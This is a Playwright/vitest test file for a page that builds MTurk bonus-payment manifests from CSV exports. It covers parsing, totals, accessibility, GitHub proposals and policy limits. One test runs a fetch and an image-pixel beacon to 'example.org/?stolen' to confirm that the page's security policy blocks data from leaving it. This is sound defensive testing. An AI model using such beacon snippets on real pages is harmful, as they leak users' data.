import { cp, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import type { Browser, BrowserContextOptions, Locator, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { HAS_CHROMIUM, startChromium } from "./chromium.fixture.ts";
import { openLab } from "./lab.fixture.ts";
import type { Lab } from "./lab.fixture.ts";
import { buildProgram, endAll } from "./program.fixture.ts";
import type { Program } from "./program.fixture.ts";

const ROOT = dirname(dirname(dirname(fileURLToPath(import.meta.url))));
const EXPORTS = join(ROOT, "src/drafting/exports");
const BATCH = "Batch_4123456_batch_results.csv";
const SURVEY = "Stroop_wave_1_November_2026.csv";
const PICTURE = "docs/pictures/compose.png";
const DESKTOP = { viewport: { width: 1360, height: 1000 } };
const PHONE = { viewport: { width: 390, height: 844 }, hasTouch: true };

let program: Program;
let browser: Browser;
let lab: Lab;
let axe: string;
let folder: string;

describe.skipIf(!HAS_CHROMIUM)("the page of compose, in Chromium", () => {
  beforeAll(async () => {
    program = await buildProgram();
    browser = await startChromium();
    lab = await openLab(program);
    axe = await readFile(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
    folder = await mkdtemp(join(tmpdir(), "mergepay-compose-"));
  });
  afterAll(async () => {
    await browser.close();
    await lab.close();
    await endAll();
    await program.remove();
    await rm(folder, { recursive: true });
  });

  test("two files that are dropped become the list that draft writes, and validate accepts it", async () => {
    const page = await opened();
    await drop(page, "Who did what", BATCH);
    await drop(page, "What the amounts depend on", SURVEY);
    expect(await page.getByText("11 rows, 21 columns · Qualtrics’s extra header rows left out").isVisible()).toBe(true);
    expect(await page.getByLabel("Code, in the batch").inputValue()).toBe("Answer.surveycode");
    expect(await page.getByLabel("Code, in the second file").inputValue()).toBe("RandomID");
    expect(await field(page, "Only rows for which").inputValue()).toBe('Status != "Survey Preview"');

    await field(page, "Bonus").fill("0.50 + 0.10 * scor");
    await page.getByText("Did you mean score?").waitFor();
    expect(await field(page, "Bonus").getAttribute("aria-invalid")).toBe("true");
    expect(await page.getByRole("status").first().innerText()).toBe("1 problem to mend before there is a list");
    await field(page, "Bonus").fill("0.50 + 0.10 * score");
    await field(page, "At most").fill("5.00");
    await field(page, "Study").fill("stroop");
    await page.getByLabel("sandbox").check();
    await page.getByText("Ready: 9 bonuses, 4 things to look at").waitFor();
    expect(await totals(page)).toEqual(["Bonuses 9", "Amount $18.50", "MTurk’s fee $3.70", "Cost $22.20"]);
    expect(await page.locator("figcaption").innerText()).toBe("From $0.50 to $5.00, half get $1.70 or less");

    await page.getByText("payments/stroop.yaml").waitFor();
    const waiting = page.waitForEvent("download");
    await page.getByRole("button", { name: "Download" }).click();
    const download = await waiting;
    expect(download.suggestedFilename()).toBe("stroop.yaml");
    const text = await readFile(await download.path(), "utf8");

    for (const name of [BATCH, SURVEY]) await cp(join(EXPORTS, name), join(await lab.clone("ada"), name));
    const args = ["draft", "bonuses", "--batch", BATCH, "--scores", SURVEY, "--amount", "0.50 + 0.10 * score"];
    args.push(
      "--max",
      "5.00",
      "--where",
      'Status != "Survey Preview"',
      "--study",
      "stroop",
      "--environment",
      "sandbox",
    );
    expect(await lab.run("ada", args)).toMatchObject({ exit: 0 });
    expect(text).toBe(await readFile(join(await lab.clone("ada"), "payments/stroop.yaml"), "utf8"));
    await lab.write("ada", { "payments/stroop.yaml": text });
    expect((await lab.run("ada", ["validate"])).stdout).toBe("No problems in 1 manifest (9 bonuses).\n");
  });

  test("it sends nothing and can send nothing", async () => {
    const page = await opened();
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    await filled(page);
    expect(requests.filter((url) => !url.startsWith("blob:") && !url.startsWith("data:"))).toEqual([]);
    expect(await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content")).toMatch(
      /^default-src 'none'; script-src 'sha256-\S+'; style-src 'sha256-\S+'; base-uri 'none'; form-action 'none'$/,
    );
    const sent = "fetch('https://example.org/?stolen').then(() => 'sent', () => 'refused')";
    expect(await page.evaluate(sent)).toBe("refused");
    const pixel =
      "new Promise((end) => { const i = new Image(); i.onload = () => end('sent'); i.onerror = () => end('refused'); i.src = 'https://example.org/?stolen'; })";
    expect(await page.evaluate(pixel)).toBe("refused");
  });

  test.each([
    ["light, wide", { ...DESKTOP, colorScheme: "light" }],
    ["dark, wide", { ...DESKTOP, colorScheme: "dark" }],
    ["light, on a phone", { ...PHONE, colorScheme: "light" }],
    ["dark, on a phone", { ...PHONE, colorScheme: "dark" }],
  ] as const)("axe finds nothing in it, and nothing runs over its edge: %s", async (_, options) => {
    const page = await opened(options);
    const check = async () => {
      expect(await violations(page)).toEqual([]);
      expect(await page.evaluate("document.documentElement.scrollWidth <= innerWidth")).toBe(true);
    };
    await check();
    await filled(page);
    await check();
    await page.getByText("Show the list").click();
    await check();
    await field(page, "Bonus").fill("score / 7");
    await page.getByRole("button", { name: "Round all amounts half up" }).waitFor();
    await check();
    await field(page, "Bonus").fill("nonsense(");
    await page.getByText("This formula cannot be read").waitFor();
    await check();
  });

  test("everything on it is reached with the Tab key, in order, and the way to a list needs no mouse", async () => {
    const page = await opened();
    await page.getByLabel("Who did what").setInputFiles(join(EXPORTS, "pilot-bonus.csv"));
    await page.getByText("Ready: 3 bonuses").waitFor();
    const seen: string[] = [];
    for (let presses = 0; presses < 40; presses++) {
      await page.keyboard.press("Tab");
      seen.push(String(await page.evaluate(FOCUSED)));
      if (seen.at(-1) === "Show the list, with ids in clear") break;
    }
    for (const name of [
      "Worker ids",
      "Bonus",
      "At most",
      "Round half up to whole cents",
      "Only rows for which",
      "What workers read",
      "Study",
      "Your repository on GitHub",
      "Download",
      "Copy",
    ])
      expect(seen).toContain(name);
    await page.keyboard.press("Enter");
    expect(await page.locator("pre").innerText()).toContain("worker: A2EXAMPLE00001");
  });

  test("whole ids are shown only where the list itself is opened", async () => {
    const page = await opened();
    await filled(page);
    await page.getByLabel("Worker ids").selectOption("AssignmentId");
    await page.getByText("to mend before there is a list").waitFor();
    expect(await page.locator("main").innerText()).not.toMatch(/A2EXAMPLE\d|3EXAMPLEASSIGNMENT\d/);
  });

  test("an amount that stands out is marked, in the chart and in the table", async () => {
    const page = await opened();
    const rows = ["1", "1.10", "1.20", "0.90", "1", "15.00"].map(
      (amount, n) => `A2EXAMPLE0000${n},3EXAMPLEASSIGNMENT00000000000${n},${amount}`,
    );
    await writeFile(join(folder, "odd.csv"), ["WorkerId,AssignmentId,bonus", ...rows].join("\n"));
    await page.getByLabel("Who did what").setInputFiles(join(folder, "odd.csv"));
    await page.getByText("Ready: 6 bonuses, 1 thing to look at").waitFor();
    expect(await page.locator("figcaption").innerText()).toContain("1 is unusual");
    expect(await page.locator("tr.outlier").innerText()).toMatch(/A2…005\s+…000005\s+unusual \$15\.00/);
    expect(await page.locator('.plot rect[fill="var(--warn)"]').count()).toBe(1);
  });

  test("“Propose on GitHub” opens the page for a new file with the list in it, or copies a list that is too long", async () => {
    const page = await opened();
    const asked: string[] = [];
    await page.context().route("https://github.com/**", async (route) => {
      asked.push(route.request().url());
      await route.fulfill({ body: "GitHub" });
    });
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.getByLabel("Who did what").setInputFiles(join(EXPORTS, "pilot-bonus.csv"));
    await page.getByLabel("Your repository on GitHub").fill("https://github.com/lab/payments");
    const propose = async () => {
      const popup = page.waitForEvent("popup");
      await page.getByRole("button", { name: "Propose on GitHub" }).click();
      await (await popup).waitForLoadState();
    };
    await propose();
    const address = new URL(asked[0] ?? "");
    expect(address.pathname).toBe("/lab/payments/new/main");
    expect(address.searchParams.get("filename")).toBe("payments/pilot-bonus.yaml");
    expect(address.searchParams.get("value")).toContain("bonuses:\n  - { worker: A2EXAMPLE00001");

    const rows = Array.from({ length: 200 }, (_, n) => {
      const digits = String(n).padStart(5, "0");
      return `A2EXAMPLE${digits},3EXAMPLEASSIGNMENT0000000${digits},0.50`;
    });
    await writeFile(join(folder, "long.csv"), ["workerid,assignmentid,bonus", ...rows].join("\n"));
    await page.getByLabel("Who did what").setInputFiles(join(folder, "long.csv"));
    await page.getByText("Ready: 200 bonuses").waitFor();
    await propose();
    expect(new URL(asked[1] ?? "").search).toBe("?filename=payments%2Flong.yaml");
    expect(await page.getByText("it was copied").isVisible()).toBe(true);
    expect(String(await page.evaluate("navigator.clipboard.readText()")).match(/- \{ worker: /g)).toHaveLength(200);
  });

  test("what compose knows of the repository is filled in, and its policy's limits judge the list", async () => {
    await lab.publish("ada", {
      "payments/policy.yaml": "limits: { bonus: 2.00, manifest: 50.00, day: 50.00, rows: 2 }\n",
    });
    await lab.git("ada", "remote", "add", "github", "git@github.com:lab/payments.git");
    const said = await lab.run("ada", ["compose", "--print", "--remote", "github"]);
    const url = /^ {2}(file:\S+)$/m.exec(said.stdout)?.[1] ?? "";
    const page = await opened({}, url);
    await page.getByLabel("Who did what").setInputFiles(join(EXPORTS, "pilot-bonus.csv"));
    await page.getByText("$3.00 is over the limit of $2.00 for one bonus").waitFor();
    await field(page, "At most").fill("2.00");
    await page.getByText("payments/pilot-bonus-2.yaml").waitFor();
    expect(await page.getByLabel("Your repository on GitHub").inputValue()).toBe("lab/payments");
  });

  test("where a lab encrypts its lists, none with ids in clear can be taken from it", async () => {
    const page = await opened({}, `${pageUrl()}#repository=lab/payments&encrypted=yes`);
    await filled(page);
    await page.getByText("Your lab encrypts the ids in its lists").waitFor();
    expect(await page.getByRole("button", { name: /Propose|Download|Copy/ }).count()).toBe(0);
    expect(await page.locator("pre").count()).toBe(0);
  });

  test("its picture in the README shows it", async () => {
    const page = await opened({ ...DESKTOP, colorScheme: "light" }, `${pageUrl()}#repository=lab/payments`);
    await filled(page);
    await page.evaluate("document.activeElement.blur(); scrollTo(0, 0)");
    const path = process.env["BLESS_PICTURES"] ? join(ROOT, PICTURE) : join(folder, "compose.png");
    await page.screenshot({ path, clip: { x: 0, y: 0, width: 1360, height: 1240 }, fullPage: true });
    // Fonts differ between machines, so that pictures are compared by their width alone; what they show is tested above.
    const width = async (file: string) => (await readFile(file)).readUInt32BE(16);
    expect(await width(path)).toBe(await width(join(ROOT, PICTURE)));
    expect(await readFile(join(ROOT, "README.md"), "utf8")).toContain(`(${PICTURE})`);
  });
});

function pageUrl(): string {
  return pathToFileURL(join(dirname(program.cli), "compose.html")).href;
}

/** A page that fails the test where it breaks its own policy or throws. */
async function opened(options: BrowserContextOptions = DESKTOP, url = pageUrl()): Promise<Page> {
  const context = await browser.newContext(options);
  const page = await context.newPage();
  page.setDefaultTimeout(20_000);
  page.on("pageerror", (error) => {
    throw error;
  });
  page.on("console", (said) => {
    if (said.type() === "error" && !said.text().includes("example.org")) throw new Error(said.text());
  });
  await page.goto(url);
  return page;
}

async function filled(page: Page): Promise<void> {
  await Promise.all([
    page.getByLabel("Who did what").setInputFiles(join(EXPORTS, BATCH)),
    page.getByLabel("What the amounts depend on").setInputFiles(join(EXPORTS, SURVEY)),
  ]);
  await page.getByLabel("Code, in the second file").waitFor();
  await field(page, "Bonus").fill("0.50 + 0.10 * score");
  await field(page, "At most").fill("5.00");
  await page.getByText("Ready: 9 bonuses, 4 things to look at").waitFor();
}

function field(page: Page, label: string): Locator {
  return page.getByRole("textbox", { name: label, exact: true });
}

/** As from a folder of the desktop: Playwright cannot drag a file there itself. */
async function drop(page: Page, onto: string, name: string): Promise<void> {
  const bytes = await readFile(join(EXPORTS, name));
  const data = await page.evaluateHandle(
    `(() => { const data = new DataTransfer(); data.items.add(new File([Uint8Array.from(atob(${JSON.stringify(bytes.toString("base64"))}), (c) => c.charCodeAt(0))], ${JSON.stringify(name)})); return data; })()`,
  );
  const zone = page.locator(".drop", { hasText: onto });
  await zone.dispatchEvent("dragover", { dataTransfer: data });
  await zone.dispatchEvent("drop", { dataTransfer: data });
  await zone.getByText(name).waitFor();
}

async function totals(page: Page): Promise<string[]> {
  const cells = await page.locator(".totals > div").allInnerTexts();
  return cells.map((text) => text.replace(/\s+/g, " ").trim());
}

/** What axe-core finds, by rule and place. It runs where the page's policy does not reach. */
async function violations(page: Page): Promise<readonly string[]> {
  const found = await page.evaluate(
    `${axe}; axe.run().then(({ violations }) => violations.map(({ id, nodes }) => id + " " + nodes.map(({ target }) => target).join(" ")))`,
  );
  return found as readonly string[];
}

const FOCUSED =
  "(() => { const at = document.activeElement; return (at.labels && at.labels[0] ? at.labels[0].innerText : at.innerText || '').split('\\n')[0].trim(); })()";
